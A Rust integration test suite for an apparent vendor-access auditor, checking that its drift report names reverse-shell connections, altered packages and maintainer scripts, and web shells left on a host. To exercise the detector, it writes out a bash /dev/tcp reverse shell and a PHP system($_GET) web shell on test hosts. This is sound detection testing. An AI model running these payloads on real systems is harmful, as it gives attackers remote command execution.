//! What the vendor leaves running or installed beyond the files: established connections,
//! packages and their maintainer scripts, and web shells in the host's other web roots, each
//! planted through the vendor's own login and named by the drift report (exit 3).

use crate::docs::Drift;
use crate::support::{TestHost, text, trusted_host, wait_until};
use std::time::Duration;

/// The persistence items of `category`: (path, text).
fn items<'a>(drift: &'a Drift, category: &str) -> Vec<(&'a str, &'a str)> {
    drift
        .persistence
        .iter()
        .filter(|i| i.category == category)
        .map(|i| (i.path.as_str(), i.text.as_str()))
        .collect()
}

/// Whether `host` holds an established TCP connection to `peer` (`ADDRESS:PORT`) within 5 s.
fn connected(host: &TestHost, peer: &str) -> bool {
    wait_until(Duration::from_secs(5), Duration::from_millis(50), || {
        !host
            .sh(&format!("ss -H -tn state established dst {peer}"))
            .trim()
            .is_empty()
    })
}

/// A reverse shell the root-level vendor starts through its own login and sudo, connected to a
/// machine of its own, is named with its program and peer while the window is open; a
/// connection root opens outside any vendor login is named at teardown.
#[test]
fn a_connection_left_open_is_named_with_its_program_and_peer() {
    let Some((host, ws)) = trusted_host() else {
        return;
    };
    // The vendor's machine: another test host, linked to this one, listening (and saying
    // nothing) on two ports.
    let other = TestHost::builder().service("none").up();
    host.link(&other);
    for port in [7777, 7778] {
        other.sh(&format!(
            "setsid socat TCP-LISTEN:{port},fork,reuseaddr 'EXEC:sleep 3600' </dev/null >/dev/null 2>&1 &"
        ));
    }
    assert!(
        wait_until(Duration::from_secs(5), Duration::from_millis(50), || {
            other.ok("ss -H -tln | grep -q ':7778 '")
        }),
        "the listener on the other host did not start"
    );
    let grant = ws.grant(&host, &["--level", "root"]);
    let (a, b) = (
        format!("{}:7777", other.addr),
        format!("{}:7778", other.addr),
    );

    host.sudo_as(
        grant.account(),
        grant.password(),
        &format!(
            "setsid bash -c 'bash -i >& /dev/tcp/{}/7777 0>&1' </dev/null >/dev/null 2>&1 &",
            other.addr
        ),
    );
    assert!(connected(&host, &a), "the reverse shell did not connect");
    let drift = ws.audit(&host, &grant.id, 3).drift;
    // Only the new peer: not the audit's own SSH connection, nor the vendor's session.
    assert_eq!(
        items(&drift, "connections"),
        [(
            format!("tcp {a}").as_str(),
            format!("new established connection tcp {a} (bash)").as_str()
        )],
        "{drift:#}"
    );

    // Root, outside any vendor login, after provision.
    host.sh(&format!(
        "setsid socat -u TCP:{b} STDOUT </dev/null >/dev/null 2>&1 &"
    ));
    assert!(connected(&host, &b), "root's connection did not connect");
    let report = ws.teardown_exit_3(&host, &grant.id);
    let drift = report.drift();
    assert!(
        drift.reports(
            Some(&format!("tcp {b}")),
            &[&format!("new established connection tcp {b} (socat)")]
        ),
        "{drift:#}"
    );
}

/// Build `NAME_VERSION.deb` in /tmp (architecture `all`, a postinst that does nothing), as
/// anyone with a shell on a Debian host can.
fn build_deb(name: &str, version: &str) -> String {
    format!(
        "d=/tmp/build-{name}-{version}
mkdir -p $d/DEBIAN
printf 'Package: {name}\\nVersion: {version}\\nArchitecture: all\\nMaintainer: test <test@example.org>\\nDescription: handover test package\\n' > $d/DEBIAN/control
printf '#!/bin/sh\\nexit 0\\n' > $d/DEBIAN/postinst
chmod 755 $d/DEBIAN/postinst
dpkg-deb --root-owner-group --build $d /tmp/{name}_{version}.deb >/dev/null
"
    )
}

/// A root-level vendor installs, upgrades and removes packages through its own login and
/// sudo, and appends a line to an existing package's postinst (which runs as root at its next
/// upgrade): each is named, the packages with their version change and maintainer scripts.
#[test]
fn packages_and_maintainer_scripts_changed_by_the_vendor_are_named() {
    let Some((host, ws)) = trusted_host() else {
        return;
    };
    let postinst = "/var/lib/dpkg/info/openssh-server.postinst";
    assert!(host.ok(&format!("test -f {postinst}")), "no {postinst}");
    // The customer's packages, before the window.
    host.sh(&format!(
        "set -e\n{}{}dpkg -i /tmp/hv-old_1.0.deb /tmp/hv-gone_1.0.deb >/dev/null",
        build_deb("hv-old", "1.0"),
        build_deb("hv-gone", "1.0")
    ));
    let grant = ws.grant(&host, &["--level", "root"]);

    host.sudo_as(
        grant.account(),
        grant.password(),
        &format!(
            "set -e\n{}{}dpkg -i /tmp/hv-probe_1.0.deb /tmp/hv-old_1.1.deb >/dev/null
dpkg -r hv-gone >/dev/null
echo 'true # planted' >> {postinst}
",
            build_deb("hv-probe", "1.0"),
            build_deb("hv-old", "1.1"),
        ),
    );
    let check = |drift: &Drift| {
        let status = "/var/lib/dpkg/status";
        let found = items(drift, "packages");
        for expected in [
            (
                status,
                "package `hv-gone` 1.0 removed".to_owned(),
            ),
            (
                status,
                "package `hv-old` upgraded 1.0 → 1.1 (maintainer scripts: /var/lib/dpkg/info/hv-old.postinst)".to_owned(),
            ),
            (
                status,
                "package `hv-probe` 1.0 installed (maintainer scripts: /var/lib/dpkg/info/hv-probe.postinst)".to_owned(),
            ),
        ] {
            assert!(
                found.contains(&(expected.0, expected.1.as_str())),
                "`{}` not reported: {drift:#}",
                expected.1
            );
        }
        assert!(
            drift.reports(
                Some(postinst),
                &[
                    &format!("maintainer script {postinst} changed (replaced or modified"),
                    "its package unchanged"
                ]
            ),
            "{drift:#}"
        );
    };
    check(&ws.audit(&host, &grant.id, 3).drift);
    check(ws.teardown_exit_3(&host, &grant.id).drift());
}

/// The customer's other sites (an Apache virtual host, an nginx server with an alias): a web
/// shell written there by a user-level vendor into a world-writable upload directory, or by a
/// root-level vendor through sudo, is named with its web root; a new text file is not drift.
#[test]
fn web_shells_in_other_web_roots_are_named() {
    let Some((host, ws)) = trusted_host() else {
        return;
    };
    // The customer's configuration, before the window (no server needs to run: its
    // configuration is what is read).
    host.sh(
        "set -e
mkdir -p /etc/apache2/sites-available /etc/nginx/sites-enabled /srv/other /srv/site2/uploads /srv/assets
printf '<VirtualHost *:80>\\n\\tServerName other.example\\n\\tDocumentRoot \"/srv/other\"\\n</VirtualHost>\\n' \
  > /etc/apache2/sites-available/other.conf
printf 'server {\\n\\tlisten 80;\\n\\troot /srv/site2;\\n\\tlocation /assets/ {\\n\\t\\talias /srv/assets/;\\n\\t}\\n}\\n' \
  > /etc/nginx/sites-enabled/site2
echo '<?php echo 1;' > /srv/other/index.php
chmod 1777 /srv/site2/uploads",
    );

    // A user-level vendor: the upload directory anyone may write to.
    let user = ws.grant(&host, &[]);
    let out = host.ssh_as(
        user.account(),
        user.password(),
        "echo '<?php system($_GET[\"c\"]);' > /srv/site2/uploads/up.php && echo notes > /srv/site2/uploads/notes.txt",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let drift = ws.audit(&host, &user.id, 3).drift;
    assert_eq!(drift.paths(), ["/srv/site2/uploads/up.php"], "{drift:#}");
    let (category, item) = (&drift.persistence[0].category, &drift.persistence[0].text);
    assert_eq!(category, "web roots");
    // 644, or 664 where a login's umask is 002 (Debian 13's pam_umask for a user's own group).
    let mode = host.sh("stat -c %a /srv/site2/uploads/up.php");
    assert!(
        item.starts_with(&format!(
            "new file a web server would run in web root /srv/site2 (root in /etc/nginx/sites-enabled/site2): /srv/site2/uploads/up.php (mode {}, owner uid:gid ",
            mode.trim()
        )),
        "{item}"
    );

    // A root-level vendor, through sudo.
    let root = ws.grant(&host, &["--level", "root"]);
    host.sudo_as(
        root.account(),
        root.password(),
        "echo '<?php system($_GET[\"c\"]);' > /srv/other/shell.php && echo x > /srv/assets/x.phtml",
    );
    let check = |drift: &Drift| {
        assert_eq!(
            items(drift, "web roots"),
            [
                (
                    "/srv/assets/x.phtml",
                    "new file a web server would run in web root /srv/assets (alias in /etc/nginx/sites-enabled/site2): /srv/assets/x.phtml (mode 644, owner root)"
                ),
                (
                    "/srv/other/shell.php",
                    "new file a web server would run in web root /srv/other (DocumentRoot in /etc/apache2/sites-available/other.conf): /srv/other/shell.php (mode 644, owner root)"
                ),
            ],
            "{drift:#}"
        );
    };
    check(&ws.audit(&host, &root.id, 3).drift);
    let out = ws
        .teardown_as_root(&host, &root.id, &["--json"])
        .run()
        .expect_code(3);
    check(out.teardown_report().drift());
}
